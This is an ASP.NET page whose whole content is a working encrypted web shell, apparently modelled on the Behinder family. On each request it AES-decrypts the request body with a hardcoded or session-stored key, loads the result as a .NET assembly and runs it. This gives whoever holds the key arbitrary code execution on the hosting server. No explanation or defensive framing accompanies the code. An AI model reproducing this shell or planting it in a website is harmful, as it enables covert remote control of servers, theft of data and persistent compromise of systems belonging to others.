<%@ Page Language="C#" %>
<script runat="server">
// In-memory loader: an encrypted request body becomes an assembly (Behinder-style channel).
void Page_Load(object sender, EventArgs e)
{
    if (Request.ContentLength > 0) {
        byte[] k = System.Text.Encoding.Default.GetBytes(Session["k"] as string ?? "e45e329feb5d925b");
        byte[] c = Request.BinaryRead(Request.ContentLength);
        var aes = new System.Security.Cryptography.RijndaelManaged();
        byte[] raw = aes.CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length);
        System.Reflection.Assembly.Load(raw).CreateInstance("U").Equals(this);
    }
}
</script>
